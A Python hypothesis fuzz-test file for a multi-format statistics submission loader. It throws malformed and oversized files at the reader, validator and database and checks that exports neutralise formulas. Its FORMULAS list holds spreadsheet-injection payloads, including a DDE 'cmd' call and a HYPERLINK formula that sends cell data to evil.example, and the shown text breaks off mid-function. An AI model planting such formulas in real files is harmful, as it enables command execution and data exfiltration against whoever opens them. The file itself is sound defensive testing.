"""Hostile input: thousands of random and malformed files through the loader (hypothesis, derandomized).

Properties, for every generated file, whatever its format, encoding or content:

* reading and checking end in one of the documented results and nothing else:
  ``read_submission`` returns a frame or raises ``ReadError``; ``validate``
  returns a ``Validated``; ``submit_file`` returns a ``SubmitResult``
  (accepted, unchanged or rejected). Every problem reported has a row (None or
  a spreadsheet row >= 1), a column, the value found and a message in both
  languages, and can be stored and printed as UTF-8 JSON;
* an accepted file holds only rows that are right (known indicator of the
  submitting department, canonical period not in the future, finite value in
  the valid range, known locality);
* a rejected file writes nothing to ``observations`` or
  ``observation_history`` (count and checksum unchanged);
* through the command line (a separate process, as a department runs it) the
  nastiest files of every kind, the biggest ones included (a 20 MB header of
  ten million columns, 1 MB cells, 5 million blank lines, a parquet file of 6
  million rows in a few KB, a 5 KB .xlsx whose declared range is
  A1:XFD1048576, deep, huge and 12 MB JSON), end with exit code 0 or 1 and one
  JSON object, never a traceback, within a bounded time and under 1.5 GB of
  memory (the process's own peak RSS, VmHWM);
* 'millions of columns' are refused on the header, in well under a second;
* exports: a note such as ``=HYPERLINK(...)``, ``+1``, ``@SUM(...)`` comes out
  of ``python -m loaders export observations`` neutralised in CSV and XLSX.

The report of a rejected file is bounded (at most 100,000 problems listed, the
stored record 1,000 with values cut); test_reading_memory.py measures the worst
file of each format against 1 GB.

Cells reach the whole of Unicode (``st.text()``), periods any year from 0 to
9999 in every form, and periods and values written with full-width or
Arabic-Indic digits (refused by the one digit policy, as row errors).

Settings: ``derandomize=True`` (the same examples on every run), no example
database, no deadline. About 2,200 examples in all (350 CSV, 180 JSON, 90
XLSX, 110 Parquet, 60 XLS, 60 ODS, 350 junk, 50 through ``submit_file`` on a
database, 1,000 for the neutralisation) and 21 CLI processes: about a minute
on an idle 2-core machine.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import math
import os
import re
import subprocess
import sys
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import measured
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter
from conftest import small_indicators
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import db
import settings as app_settings
from loaders.errors import ReadError, RowError
from loaders.export import neutralise
from loaders.ingest import SubmitResult, submit_file
from loaders.reading import VI_HEADERS, key_of, read_submission
from loaders.validation import Validated, load_reference, validate
from rules import calendar as periods

TODAY = dt.date(2026, 11, 26)
INDICATORS = {i["code"]: i for i in small_indicators()}
DEPARTMENTS = sorted({i["owner"] for i in INDICATORS.values()})
LOCALITIES = ["07210", "09295", "07525", "07654", "07537"]
KEYS = ("indicator_code", "period", "locality_code", "value", "note")
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1",
    "-1+2",
    "@SUM(1,2)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=2+5+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
]
FAST = settings(
    derandomize=True,
    database=None,
    deadline=None,
    print_blob=False,
    suppress_health_check=list(HealthCheck),
)
GIB = 1 << 30


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def reference(_catalogue_db_template):
    with db.read(_catalogue_db_template) as con:
        return load_reference(con)


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


@pytest.fixture(scope="module")
def fuzz_db(_catalogue_db_template, workdir) -> Path:
    path = workdir / "fuzz.duckdb"
    path.write_bytes(_catalogue_db_template.read_bytes())
    return path


# --------------------------------------------------------------------------- cells

VI_LETTERS = "aăâbcdđeêghiklmnoôơpqrstuưvxyàáảãạằắẳẵặầấẩẫậèéẻẽẹềếểễệìíỉĩịòóỏõọồốổỗộờớởỡợùúủũụừứửữựỳýỷỹỵ"
vi_text = st.text(alphabet=VI_LETTERS + VI_LETTERS.upper() + " ,.;:-/%()'\"\n0123456789", max_size=40)
any_text = st.text(max_size=24)  # any Unicode (no surrogates), control characters included
formula = st.sampled_from(FORMULAS)
huge = st.builds(lambda n, c: c * n, st.sampled_from([40_000, 1 << 20]), st.sampled_from(["9", "ê", "x", ",", '"']))
weird_numbers = st.sampled_from(
    ["1.234", "1,234", "1.234,5", "1,234,567", "1,234.5", "12,5", "0.125", "1234,5", "12%", "12 %", "-0", "+5", "1e3",
     "1E400", "-1e-400", "nan", "NaN", "inf", "-Infinity", "1_000", "١٢٣", "１２３", "12.5.6", "0x1F", "--1", "", " ",
     "TRUE", "None", "null", "7210.0", "٫", "½", "Ⅻ", "12\u00a0345", "1 234,5"]
)  # fmt: skip


_FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
_ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def _other_digits(text: str) -> st.SearchStrategy[str]:
    """The same text with its digits full-width or Arabic-Indic (one digit policy: refused in periods and values)."""
    return st.sampled_from([text.translate(_FULL_WIDTH), text.translate(_ARABIC_INDIC)])


def _period_texts() -> st.SearchStrategy[str]:
    year = st.one_of(st.integers(1899, 2101), st.integers(0, 9999), st.sampled_from([0, 1, 1999, 2000, 9999]))
    canonical = st.one_of(
        year.map(str),
        st.builds("{}-H{}".format, year, st.integers(0, 3)),
        st.builds("{}-Q{}".format, year, st.integers(0, 5)),
        st.builds("{}-{:02d}".format, year, st.integers(0, 13)),
        st.builds("{}-W{:02d}".format, year, st.integers(0, 54)),
    )
    vietnamese = st.one_of(
        st.builds("Tháng {}/{}".format, st.integers(0, 13), year),
        st.builds("Quý {}/{}".format, st.sampled_from(["I", "II", "III", "IV", "V", "1", "4", "0"]), year),
        st.builds("6 tháng {} năm {}".format, st.sampled_from(["đầu", "cuối", "giữa"]), year),
        st.builds("Năm {}".format, year),
        st.builds("Tuần {}/{}".format, st.integers(0, 54), year),
    )
    return st.one_of(
        canonical,
        vietnamese,
        canonical.map(str.lower),
        canonical.map(lambda s: f"  {s}\t"),
        canonical.flatmap(_other_digits),
        any_text,
    )


def _value_texts() -> st.SearchStrategy[str]:
    return st.one_of(
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.integers(-(10**20), 10**20).map(str),
        st.floats(-1e6, 1e6).map(lambda f: f"{f:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".")),
        weird_numbers,
        st.floats(-1e6, 1e6).map("{:.2f}".format).flatmap(_other_digits),
        st.sampled_from(["1e309", "-1e309", "1e16", "9" * 250, "1" + "0" * 400]),
        any_text,
        formula,
    )


code_cell = st.one_of(
    st.sampled_from(sorted(INDICATORS)),
    st.sampled_from(sorted(INDICATORS)).map(lambda c: f" {c.lower()} "),
    st.sampled_from(["", "UNKNOWN", "FIN_REV\n", "FIN REV", "fin_rev"]),
    any_text,
    formula,
)
locality_cell = st.one_of(
    st.sampled_from([*LOCALITIES, "", "7210", "7210.0", "99999", "0", "00000", "07210 "]), any_text
)
text_cell = {
    "indicator_code": code_cell,
    "period": _period_texts(),
    "locality_code": locality_cell,
    "value": _value_texts(),
    "note": st.one_of(st.just(""), vi_text, formula, any_text),
}


_PER_YEAR = {"weekly": 52, "monthly": 12, "quarterly": 4, "half_yearly": 2, "annual": 1}
_FORMATS = st.sampled_from(["{:.2f}", "{:.1f}", "{:.4f}"])  # 9.572 would be ambiguous (a thousand?)
_VALID_NOTE = st.one_of(st.just(""), vi_text, formula)


def _valid_row_of(code: str) -> st.SearchStrategy[dict[str, str]]:
    ind = INDICATORS[code]
    freq = ind["frequency"]
    high = ind["valid_max"] if ind["valid_max"] is not None else 10**9

    def build(year, index, locality, value, fmt, percent, note):
        text = fmt.format(round(value, 3)) + ("%" if percent and ind["unit"] == "%" else "")
        period = str(periods.Period(year, freq, index))
        return {"indicator_code": code, "period": period, "locality_code": locality, "value": text, "note": note}

    return st.builds(
        build,
        st.integers(2019, 2025),
        st.integers(1, _PER_YEAR[freq]),
        st.sampled_from(LOCALITIES) if ind["level"] == "commune" else st.just(""),
        st.floats(ind["valid_min"], high, allow_nan=False),
        _FORMATS,
        st.booleans(),
        _VALID_NOTE,
    )


_VALID_ROWS = {
    department: st.one_of(
        [_valid_row_of(c) for c, i in INDICATORS.items() if department in (None, i["owner"]) and not i["components"]]
    )
    for department in [None, *DEPARTMENTS]
}
RANDOM_ROW = st.fixed_dictionaries(text_cell)
ANY_ROW = st.one_of(_VALID_ROWS[None], RANDOM_ROW)


def valid_row(department: str | None = None) -> st.SearchStrategy[dict[str, str]]:
    """A row that is right for its department (when the file's department is the owner)."""
    return _VALID_ROWS[department]


_HEADER_NAMES = {
    key: st.sampled_from(
        [key, VI_HEADERS[key], key.upper(), f"  {VI_HEADERS[key].upper()} ", VI_HEADERS[key].lower(), f"{key} "]
    )
    for key in KEYS
}


@st.composite
def table(draw, department: str = "FIN", wide: bool = True) -> tuple[list[str], list[list[object]]]:
    """A header and rows of text cells. Mostly a file a department could send (every contract column, in any
    order and spelling, valid rows with now and then a wrong one); else columns missing or repeated, extra
    columns (with `wide`: up to 100,000 of them), random rows, a huge cell, ragged rows."""
    mode = draw(st.sampled_from(["valid", "valid", "almost", "random"]))
    keys = list(draw(st.permutations(KEYS)))
    if mode == "random":
        keys = [k for k in keys if draw(st.integers(0, 5)) > 0]  # a required column may be missing
        if keys and draw(st.integers(0, 9)) == 0:
            keys.append(keys[0])  # a repeated column
    header = [draw(_HEADER_NAMES[k]) for k in keys]
    extra = draw(st.sampled_from([0, 0, 1, 2, 5, 17_000, 100_000] if wide and mode == "random" else [0, 0, 1, 2]))
    extras_at = draw(st.integers(0, len(header)))
    if extra < 1000:
        extra_names = [draw(st.sampled_from(["Tên chỉ số", "Đơn vị", "", "unit"])) for _ in range(extra)]
    else:
        extra_names = [""] * extra  # 17,000 empty names fit in 64 KB: the column cap; 100,000 do not: the line cap
    header = header[:extras_at] + extra_names + header[extras_at:]
    slots = keys[:extras_at] + [None] * extra + keys[extras_at:]
    n = draw(st.integers(0, 2 if extra > 1000 else 12))
    rows = []
    for _ in range(n):
        if mode == "valid":
            base = draw(valid_row(department))
        elif mode == "almost":
            base = draw(valid_row(department))
            if draw(st.integers(0, 3)) == 0:  # one cell wrong
                key = draw(st.sampled_from(KEYS))
                base[key] = draw(text_cell[key])
        else:
            base = draw(ANY_ROW)
        row = [base[k] if k else "" for k in slots]
        if mode == "random" and row and draw(st.integers(0, 19)) == 0:
            row[draw(st.integers(0, len(row) - 1))] = draw(huge)
        if mode == "random" and draw(st.integers(0, 9)) == 0:  # a ragged row
            row = row[: draw(st.integers(0, len(row)))] if draw(st.booleans()) else row + ["x", "y"]
        rows.append(row)
    return header, rows


# --------------------------------------------------------------------------- files


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "latin-1", "cp1258", "bad-utf-8"]


@st.composite
def csv_bytes(draw, department: str = "FIN") -> bytes:
    header, rows = draw(table(department))
    hostile = draw(st.integers(0, 2)) == 0  # a third of the files: odd separators, line ends, encodings
    sep = draw(st.sampled_from([",", ";", "\t", "|", "mixed"] if hostile else [",", ";", "\t"]))
    ending = draw(st.sampled_from(["\n", "\r\n", "\r"] if hostile else ["\n", "\r\n"]))
    quoting = draw(st.sampled_from(["csv", "all", "naive"] if hostile else ["csv", "all"]))
    lines = []
    for cells in [header, *rows]:
        s = draw(st.sampled_from([",", ";", "\t"])) if sep == "mixed" else sep
        if quoting == "naive":
            lines.append(s.join(str(c) for c in cells))
        else:
            buffer = io.StringIO()
            writer = csv.writer(
                buffer, delimiter=s, lineterminator="", quoting=csv.QUOTE_ALL if quoting == "all" else csv.QUOTE_MINIMAL
            )
            writer.writerow(cells)
            lines.append(buffer.getvalue())
    text = ending.join(lines) + (ending if draw(st.booleans()) else "")
    encoding = draw(st.sampled_from(ENCODINGS)) if hostile else draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    if encoding == "bad-utf-8":
        data = bytearray(text.encode("utf-8"))
        for _ in range(draw(st.integers(1, 3))):
            at = draw(st.integers(0, len(data)))
            data[at:at] = draw(
                st.sampled_from([b"\xff", b"\xc3\x28", b"\xe2\x82", b"\xed\xa0\x80", b"\x00", b"\xfe\xff"])
            )
        return bytes(data)
    return text.encode(encoding, errors="replace")


def _typed(cell: object, kind: str) -> object:
    """A text cell as the type a tool might have written."""
    if kind == "text" or not isinstance(cell, str):
        return cell
    try:
        number = float(cell)
    except ValueError:
        return cell
    if kind == "number":
        return int(number) if math.isfinite(number) and number == int(number) and abs(number) < 2**53 else number
    return cell


@st.composite
def json_bytes(draw, department: str = "FIN") -> bytes:
    shape = draw(st.integers(0, 9))
    if shape == 0:  # any JSON value at all
        value = draw(
            st.recursive(
                st.none() | st.booleans() | st.floats() | st.integers() | any_text,
                lambda inner: st.lists(inner, max_size=4) | st.dictionaries(any_text, inner, max_size=4),
                max_leaves=20,
            )
        )
        return json.dumps(value, ensure_ascii=draw(st.booleans())).encode()
    if shape == 1:  # hand-made broken or extreme JSON
        return draw(
            st.sampled_from(
                [
                    b"[" * 50_000 + b"]" * 50_000,
                    b'[{"indicator_code": ' + b"[" * 5000 + b"]" * 5000 + b', "period": "2025", "value": 1}]',
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1' + b"0" * 400 + b"}]",
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1' + b"0" * 5000 + b"}]",
                    b'[{"indicator_code": "\\ud800", "period": "2025-01", "value": 1}]',
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1, "\\udfff": 2}]',
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": NaN, "note": Infinity}]',
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1, "value": 2}]',
                    b'[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 1}',
                    b'{"indicator_code": "FIN_REV"}',
                    b"[1, 2, 3]",
                    b"[]",
                    b"[{}]",
                    b"null",
                    b'\xef\xbb\xbf[{"indicator_code": "FIN_REV", "period": "2025-01", "value": 5}]',
                ]
            )
        )
    header, rows = draw(table(department, wide=draw(st.integers(0, 9)) == 0))
    kind = draw(st.sampled_from(["text", "number", "mixed"]))
    records = []
    for cells in rows:
        record = {}
        for name, cell in zip(header, cells, strict=False):
            k = draw(st.sampled_from(["text", "number"])) if kind == "mixed" else kind
            record[name] = _typed(cell, k)
        if draw(st.integers(0, 19)) == 0:
            record[draw(any_text)] = draw(
                st.one_of(
                    st.lists(st.integers(), max_size=3),
                    st.dictionaries(any_text, st.none(), max_size=2),
                    st.booleans(),
                    st.none(),
                )
            )
        records.append(record)
    text = json.dumps(records, ensure_ascii=draw(st.booleans()), allow_nan=True)
    encoding = draw(st.sampled_from(["utf-8-sig", "utf-16", "latin-1"])) if draw(st.integers(0, 4)) == 0 else "utf-8"
    return text.encode(encoding, errors="replace")


def _xlsx_from(header, rows, draw) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_numbers": False, "strings_to_formulas": False})
    sheet = book.add_worksheet()
    percent = book.add_format({"num_format": "0.0%"})
    date = book.add_format({"num_format": "dd/mm/yyyy"})
    top = 0
    if draw(st.integers(0, 4)) == 0:  # a title above the header
        sheet.write_string(0, 0, draw(vi_text) or "Báo cáo")
        top = draw(st.integers(1, 3))
    for c, name in enumerate(header[:16_384]):
        if name:
            sheet.write_string(top, c, str(name)[:32_767])
    hostile = draw(st.integers(0, 2)) == 0  # a third of the files: dates, formulas, booleans in any cell
    for r, cells in enumerate(rows, start=top + 1):
        for c, cell in enumerate(cells[:16_384]):
            how = draw(st.integers(0, 9)) if hostile else draw(st.sampled_from([1, 9, 9]))
            text = str(cell)
            number = _typed(text, "number")
            if how == 0 and isinstance(number, int | float) and math.isfinite(number):
                sheet.write_number(r, c, number / 100, percent)
            elif how in (1, 2) and isinstance(number, int | float) and math.isfinite(number):
                sheet.write_number(r, c, number)
            elif how == 3:
                sheet.write_datetime(
                    r, c, dt.datetime(2025, 1, 1) + dt.timedelta(days=draw(st.integers(-40000, 40000))), date
                )
            elif how == 4:
                sheet.write_formula(r, c, "=1+1", None, draw(st.sampled_from([2, "", "#N/A", True])))
            elif how == 5:
                sheet.write_boolean(r, c, draw(st.booleans()))
            elif text:
                sheet.write_string(r, c, text[:32_767])
    if draw(st.integers(0, 9)) == 0:  # a stray cell far away: the declared range becomes huge
        sheet.write_string(draw(st.sampled_from([300, 20_000])), 16_383, "x")  # XFD1048576: the CLI test
    if draw(st.integers(0, 9)) == 0:
        book.add_worksheet("Trang 2").write_string(0, 0, "indicator_code")
    book.close()
    return buffer.getvalue()


@st.composite
def xlsx_bytes(draw, department: str = "FIN") -> bytes:
    header, rows = draw(table(department, wide=False))
    return _xlsx_from(header, rows, draw)


def _office_cell(cell: object, how: int) -> object:
    """A text cell as an office program might have typed it: a number, a percentage, a date, or the text."""
    text = str(cell)[:32_767]
    number = _typed(text, "number")
    if how == 0 and isinstance(number, int | float) and math.isfinite(number):
        return ("%", number / 100)
    if how in (1, 2) and isinstance(number, int | float) and math.isfinite(number) and abs(number) < 1e300:
        return float(number)
    if how == 3:
        return dt.date(2025, 1, 1) + dt.timedelta(days=int(number) % 4000 if isinstance(number, int) else how)
    return text or None


@st.composite
def office_bytes(draw, department: str = "FIN", writer=None) -> bytes:
    """An .xls or .ods of a table: now and then an instructions sheet first, a hidden copy, a title row."""
    import tempfile

    from office_files import write_ods, write_xls

    header, rows = draw(table(department, wide=False))
    hostile = draw(st.integers(0, 2)) == 0
    cells = [[_office_cell(c, draw(st.integers(0, 9)) if hostile else 9) for c in row[:255]] for row in rows]
    sheet = [list(header[:255]), *cells]
    if draw(st.integers(0, 4)) == 0:
        sheet = [[draw(vi_text) or "Báo cáo"], [], *sheet]
    sheets = [("Dữ liệu", sheet)]
    hidden: tuple[str, ...] = ()
    if draw(st.integers(0, 3)) == 0:
        sheets.insert(0, ("Hướng dẫn", [[draw(vi_text) or "Hướng dẫn"]]))
    if draw(st.integers(0, 5)) == 0:
        sheets.insert(0, ("Cũ", sheet))
        hidden = ("Cũ",)
    write = write_ods if writer == "ods" else write_xls
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"f.{writer}"
        write(path, sheets, hidden)
        return path.read_bytes()


EXTENSIONS = [".csv", ".xlsx", ".json", ".parquet", ".xls", ".ods"]
ARROW_KINDS = [
    "string",
    "string",
    "double",
    "int64",
    "null",
    "bool",
    "date",
    "timestamp",
    "binary",
    "list",
    "dict",
    "decimal",
]


@st.composite
def parquet_bytes(draw, department: str = "FIN") -> bytes:
    header, rows = draw(table(department, wide=False))
    arrays = []
    hostile = draw(st.integers(0, 2)) == 0  # a third of the files: any Arrow type in any column
    for c, name in enumerate(header):
        cells = [r[c] if c < len(r) else None for r in rows]
        if not hostile:
            kind = draw(st.sampled_from(["string", "double"])) if key_of(name) == "value" else "string"
        else:
            kind = draw(st.sampled_from(ARROW_KINDS))
        try:
            if kind == "string":
                array = pa.array([None if x is None else str(x) for x in cells], pa.string())
            elif kind == "double":
                array = pa.array([_as_float(x) for x in cells], pa.float64())
            elif kind == "int64":
                array = pa.array(
                    [
                        None if (f := _as_float(x)) is None or not math.isfinite(f) or abs(f) > 2**62 else int(f)
                        for x in cells
                    ],
                    pa.int64(),
                )
            elif kind == "null":
                array = pa.nulls(len(cells))
            elif kind == "bool":
                array = pa.array([bool(x) for x in cells], pa.bool_())
            elif kind == "date":
                array = pa.array([dt.date(2025, 1, 1) + dt.timedelta(days=i) for i in range(len(cells))], pa.date32())
            elif kind == "timestamp":
                array = pa.array(
                    [dt.datetime(2025, 3, 1, 12) for _ in cells], pa.timestamp("us", tz="Asia/Ho_Chi_Minh")
                )
            elif kind == "binary":
                array = pa.array([str(x).encode()[:100] for x in cells], pa.binary())
            elif kind == "list":
                array = pa.array([[1, 2] for _ in cells], pa.list_(pa.int64()))
            elif kind == "dict":
                array = pa.array([None if x is None else str(x) for x in cells], pa.string()).dictionary_encode()
            else:
                array = pa.array([None for _ in cells], pa.decimal128(10, 2))
        except (pa.ArrowException, OverflowError, ValueError):
            array = pa.array([None if x is None else str(x) for x in cells], pa.string())
        arrays.append(array)
    names = [str(h) for h in header]
    buffer = io.BytesIO()
    pq.write_table(pa.Table.from_arrays(arrays, names=names) if arrays else pa.table({}), buffer)
    return buffer.getvalue()


def _as_float(x: object) -> float | None:
    try:
        return float(str(x))
    except ValueError:
        return None


@st.composite
def junk_file(draw) -> tuple[str, bytes]:
    """Binary junk, damaged real files, empty and header-only files, with any extension."""
    kind = draw(st.integers(0, 5))
    ext = draw(st.sampled_from([*EXTENSIONS, *EXTENSIONS, ".txt", ".xls", "", ".CSV", ".Xlsx"]))
    if kind == 0:
        data = draw(st.binary(max_size=3000))
    elif kind == 1:
        magic = {".xlsx": b"PK\x03\x04", ".parquet": b"PAR1", ".json": b"[{", ".csv": b"\xef\xbb\xbfindicator_code,"}
        data = magic.get(ext.lower(), b"") + draw(st.binary(max_size=3000)) + (b"PAR1" if ext == ".parquet" else b"")
    elif kind == 2:  # a real file of the format, damaged: truncated, bytes flipped, junk inserted
        maker = {
            ".csv": csv_bytes,
            ".json": json_bytes,
            ".xlsx": xlsx_bytes,
            ".parquet": parquet_bytes,
            ".xls": lambda: office_bytes(writer="xls"),
            ".ods": lambda: office_bytes(writer="ods"),
        }
        data = bytearray(draw(maker.get(ext.lower(), csv_bytes)()))
        for _ in range(draw(st.integers(1, 4))):
            how, at = draw(st.integers(0, 2)), draw(st.integers(0, max(len(data) - 1, 0)))
            if how == 0:
                del data[at:]
            elif how == 1 and data:
                data[at] ^= draw(st.integers(1, 255))
            else:
                data[at:at] = draw(st.binary(min_size=1, max_size=64))
        data = bytes(data)
    elif kind == 3:  # empty, blank, header only, BOMs only
        data = draw(
            st.sampled_from(
                [b"", b" ", b"\n\n\n", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF8 + b"\n",
                 b"indicator_code,period,value", b"indicator_code,period,value\n", b"indicator_code,period,value\n,,\n,,\n",
                 codecs.BOM_UTF8 + "Mã chỉ số;Kỳ báo cáo;Giá trị\r\n".encode(), codecs.BOM_UTF8 * 3 + b"indicator_code,period,value\n",
                 b"\x00" * 100, b"indicator_code\x00period\x00value\n"]
            )
        )  # fmt: skip
    elif kind == 4:  # a zip that is not a workbook, or a workbook with a broken part
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr(
                draw(st.sampled_from(["[Content_Types].xml", "xl/workbook.xml", "x.txt"])),
                draw(st.binary(max_size=500)),
            )
        data = buffer.getvalue()
    else:  # random Vietnamese text
        data = draw(vi_text).encode(draw(st.sampled_from(["utf-8", "utf-16", "cp1258"])), errors="replace")
    return "junk" + ext, data


# --------------------------------------------------------------------------- properties


def check_errors(errors: list[RowError]) -> None:
    assert errors, "a rejection without a single reported problem"
    for e in errors:
        assert isinstance(e, RowError)
        assert e.row is None or (isinstance(e.row, int) and e.row >= 1), e
        assert e.column is None or isinstance(e.column, str), e
        assert e.value is None or isinstance(e.value, str), e
        assert isinstance(e.message_vi, str) and e.message_vi.strip(), e
        assert isinstance(e.message_en, str) and e.message_en.strip(), e
        json.dumps(e.to_dict(), ensure_ascii=False).encode("utf-8")  # storable and printable (no lone surrogates)


def check_clean(result: Validated, department: str) -> None:
    clean = result.clean
    assert clean is not None and clean.height > 0
    assert set(clean["indicator_code"].unique()) <= {c for c, i in INDICATORS.items() if i["owner"] == department}
    for row in clean.iter_rows(named=True):
        ind = INDICATORS[row["indicator_code"]]
        assert math.isfinite(row["value"])
        assert ind["valid_min"] is None or row["value"] >= ind["valid_min"]
        assert ind["valid_max"] is None or row["value"] <= ind["valid_max"]
        parsed = periods.parse(row["period"])
        assert parsed is not None and str(parsed) == row["period"] and parsed.frequency == ind["frequency"]
        assert parsed.start <= TODAY
        assert row["locality_code"] in ("", *LOCALITIES)


def read_and_check(path: Path, department: str, reference) -> str:
    """The in-process path: read, then validate. Only the documented results may come out."""
    try:
        frame = read_submission(path)
    except ReadError as exc:
        check_errors(exc.errors)
        return "unreadable"
    result = validate(frame, department, reference, TODAY)
    assert isinstance(result, Validated)
    if result.errors:
        assert result.clean is None
        check_errors(result.errors)
        return "rejected"
    check_clean(result, department)
    return "valid"


def for_department(maker) -> st.SearchStrategy[tuple[str, bytes]]:
    """A department and a file made for it (its valid rows are that department's indicators)."""
    return st.sampled_from(DEPARTMENTS).flatmap(lambda d: st.tuples(st.just(d), maker(d)))


_lock = threading.Lock()
OUTCOMES: dict[str, dict[str, int]] = {}


def _count(test: str, outcome: str) -> None:
    with _lock:
        OUTCOMES.setdefault(test, {}).setdefault(outcome, 0)
        OUTCOMES[test][outcome] += 1


def _write(workdir: Path, name: str, data: bytes) -> Path:
    path = workdir / name
    path.write_bytes(data)
    return path


@settings(FAST, max_examples=350)
@given(case=for_department(csv_bytes))
def test_csv_files(reference, workdir, case):
    department, data = case
    _count("csv", read_and_check(_write(workdir, "f.csv", data), department, reference))


@settings(FAST, max_examples=180)
@given(case=for_department(json_bytes))
def test_json_files(reference, workdir, case):
    department, data = case
    _count("json", read_and_check(_write(workdir, "f.json", data), department, reference))


@settings(FAST, max_examples=90)
@given(case=for_department(xlsx_bytes))
def test_xlsx_files(reference, workdir, case):
    department, data = case
    _count("xlsx", read_and_check(_write(workdir, "f.xlsx", data), department, reference))


@settings(FAST, max_examples=110)
@given(case=for_department(parquet_bytes))
def test_parquet_files(reference, workdir, case):
    department, data = case
    _count("parquet", read_and_check(_write(workdir, "f.parquet", data), department, reference))


@settings(FAST, max_examples=60)
@given(case=for_department(lambda d: office_bytes(d, writer="xls")))
def test_xls_files(reference, workdir, case):
    department, data = case
    _count("xls", read_and_check(_write(workdir, "f.xls", data), department, reference))


@settings(FAST, max_examples=60)
@given(case=for_department(lambda d: office_bytes(d, writer="ods")))
def test_ods_files(reference, workdir, case):
    department, data = case
    _count("ods", read_and_check(_write(workdir, "f.ods", data), department, reference))


@settings(FAST, max_examples=350)
@given(file=junk_file(), department=st.sampled_from(DEPARTMENTS))
def test_junk_damaged_and_empty_files(reference, workdir, file, department):
    name, data = file
    _count("junk", read_and_check(_write(workdir, name, data), department, reference))


def test_the_generators_reach_every_outcome():
    """The strategies are not all rejected at the door: files get read, rejected row by row, and accepted."""
    if len(OUTCOMES) < 5:
        pytest.skip("run with the property tests above")
    for fmt in ("csv", "json", "xlsx", "parquet", "xls", "ods"):
        assert OUTCOMES[fmt].get("unreadable", 0) > 0, (fmt, OUTCOMES[fmt])
        assert OUTCOMES[fmt].get("rejected", 0) > 0, (fmt, OUTCOMES[fmt])
    assert sum(OUTCOMES[f].get("valid", 0) for f in ("csv", "json", "xlsx", "parquet")) > 20, OUTCOMES
    assert OUTCOMES["xls"].get("valid", 0) > 0 and OUTCOMES["ods"].get("valid", 0) > 0, OUTCOMES


# --------------------------------------------------------------------------- through submit_file, on a database


def _state(con) -> tuple:
    """(count, checksum) of observations and of observation_history, and the number of submissions."""
    tables = [
        con.execute(
            "SELECT count(*), coalesce(sum(hash(indicator_code, period, locality_code, value, note, submission_id))"
            f"::HUGEINT, 0)::VARCHAR FROM {table}"
        ).fetchone()
        for table in ("observations", "observation_history")
    ]
    return (*tables, con.execute("SELECT count(*) FROM submissions").fetchone()[0])


def state(path: Path) -> tuple:
    with db.read(path) as con:
        return _state(con)


def any_file(department: str) -> st.SearchStrategy[tuple[str, bytes]]:
    return st.one_of(
        csv_bytes(department).map(lambda d: ("s.csv", d)),
        json_bytes(department).map(lambda d: ("s.json", d)),
        xlsx_bytes(department).map(lambda d: ("s.xlsx", d)),
        parquet_bytes(department).map(lambda d: ("s.parquet", d)),
        office_bytes(department, writer="xls").map(lambda d: ("s.xls", d)),
        office_bytes(department, writer="ods").map(lambda d: ("s.ods", d)),
        junk_file(),
        st.lists(valid_row(department), min_size=1, max_size=20).map(_valid_csv),
    )


def _valid_csv(rows: list[dict]) -> tuple[str, bytes]:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(KEYS))
    writer.writeheader()
    writer.writerows(rows)
    return "valid.csv", buffer.getvalue().encode("utf-8")


@settings(FAST, max_examples=50)
@given(data=st.data())
def test_submit_file_rejected_writes_nothing(fuzz_db, workdir, data):
    department = data.draw(st.sampled_from(DEPARTMENTS))
    name, content = data.draw(any_file(department))
    path = _write(workdir, name, content)
    before = state(fuzz_db)
    result = submit_file(path, department, db_path=fuzz_db, now=dt.datetime(2026, 11, 26, 10, 0))
    assert isinstance(result, SubmitResult)
    assert result.status in ("accepted", "unchanged", "rejected")
    json.dumps(result.to_dict(), ensure_ascii=False).encode("utf-8")
    with db.read(fuzz_db) as con:
        after = _state(con)
        if result.status in ("accepted", "rejected"):
            status = con.execute("SELECT status FROM submissions WHERE id = ?", [result.submission_id]).fetchone()
            assert status == (result.status,)
        if result.status == "accepted":
            stored = con.execute("SELECT count(*) FROM observations WHERE submission_id = ?", [result.submission_id])
            assert stored.fetchone()[0] == result.new_rows + result.revised_rows
    _count("submit", result.status)
    recorded = after[2] - before[2]
    if result.status == "rejected":
        check_errors(result.errors)
        assert after[:2] == before[:2], "a rejected file changed the observations"
        assert recorded == 1
    elif result.status == "unchanged":
        assert after == before
    else:
        assert result.errors == [] and result.new_rows + result.revised_rows > 0
        assert after[0][0] == before[0][0] + result.new_rows
        assert after[1][0] == before[1][0] + result.new_rows + result.revised_rows
        assert recorded == 1


def test_the_report_of_a_big_rejected_file_is_bounded(fuzz_db, workdir):
    database = workdir / "report.duckdb"
    database.write_bytes(fuzz_db.read_bytes())
